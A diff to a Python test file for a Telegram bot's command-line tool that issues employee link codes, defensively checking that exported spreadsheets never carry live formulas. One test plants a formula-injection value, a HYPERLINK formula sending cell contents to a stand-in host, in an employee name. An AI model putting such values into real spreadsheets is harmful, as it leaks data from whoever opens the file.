@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import os
 import re
-import sqlite3
 import subprocess
 import sys
 from pathlib import Path
@@ -16,6 +15,7 @@ from openpyxl import load_workbook
 from bot.cli import main
 from domain.org import validate_nip
 from domain.profiles import profile_names
+from tests.sql import sql
 
 ROOT = Path(__file__).resolve().parent.parent
 SAMPLES = ROOT / "samples"
@@ -97,8 +97,7 @@ def test_link_codes_for_the_unlinked_of_a_unit(env, capsys, tmp_path, monkeypatc
     assert run(capsys, "link-codes", "--unit", "NOWHERE")[0] == 2
     code, out, _ = run(capsys, "link-codes")  # everyone; the earlier codes stop working
     assert code == 0 and len(out.splitlines()) == 15
-    with sqlite3.connect(env.removeprefix("sqlite:///")) as db:
-        revoked = {c for (c,) in db.execute("SELECT code FROM link_codes WHERE revoked_at IS NOT NULL")}
+    revoked = {c for (c,) in sql(env, "SELECT code FROM link_codes WHERE revoked_at IS NOT NULL")}
     assert revoked == {r[3] for r in rows[1:]}
 
 
@@ -112,7 +111,7 @@ def test_admin_add_list_remove(env, capsys, monkeypatch):
     assert run(capsys, "admin", "remove")[0] == 2
 
 
-def test_seed_demo_is_the_big_pemda_and_small_is_kept(env, capsys, db_template, tmp_path, monkeypatch):
+def test_seed_demo_is_the_big_pemda_and_small_is_kept(env, capsys, blank_db_url, monkeypatch):
     code, out, _ = run(capsys, "seed-demo", "--profile", "badung")
     people = [line.rsplit("NIP ", 1)[1] for line in out.splitlines() if "NIP " in line]
     assert code == 0 and len(people) >= 55
@@ -120,13 +119,13 @@ def test_seed_demo_is_the_big_pemda_and_small_is_kept(env, capsys, db_template, 
     assert "https://t.me/SikerjaBot?start=" in out
     assert " Ni " in out and " I " in out  # Balinese names in Badung
     # who is who: by unit, its head (who decides) first; expiry in the Pemda's time, to the minute
-    assert re.search(r"berlaku sampai \d{4}-\d\d-\d\d \d\d:\d\d WITA\)", out)
+    assert re.search(r"berlaku sampai \d\d-\d\d-\d{4} \d\d:\d\d WITA\)", out)
     blocks = out.split("\n■ ")[1:]
     assert len(blocks) >= 5 and all("(pimpinan unit — memutuskan)" in b.splitlines()[1] for b in blocks
                                      if "memutuskan" in b)
     assert sum("memutuskan" in b for b in blocks) >= 5
     assert run(capsys, "seed-demo")[0] == 1  # not twice
-    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'small.db'}")
+    monkeypatch.setenv("DATABASE_URL", blank_db_url)
     code, out, _ = run(capsys, "seed-demo", "--small")
     assert code == 0 and out.count("NIP ") == 10
 
@@ -145,9 +144,8 @@ def test_link_codes_file_never_carries_a_live_formula(env, capsys, tmp_path, suf
     run(capsys, "import", "units", SAMPLES / "units.csv")
     run(capsys, "import", "employees", SAMPLES / "employees.csv")
     evil = '=HYPERLINK("http://x.example/?"&A1,"klik")'
-    with sqlite3.connect(env.removeprefix("sqlite:///")) as db:
-        db.execute("UPDATE employees SET name = ? WHERE nip = '199702112022031015'", (evil,))
-        db.execute("UPDATE units SET name = '@SUM(1+1)' WHERE code = 'PKM.SUKAMAJU'")
+    sql(env, "UPDATE employees SET name = :evil WHERE nip = '199702112022031015'", evil=evil)
+    sql(env, "UPDATE units SET name = '@SUM(1+1)' WHERE code = 'PKM.SUKAMAJU'")
     out_file = tmp_path / f"kode.{suffix}"
     assert run(capsys, "link-codes", "--out", out_file)[0] == 0
     if suffix == "csv":
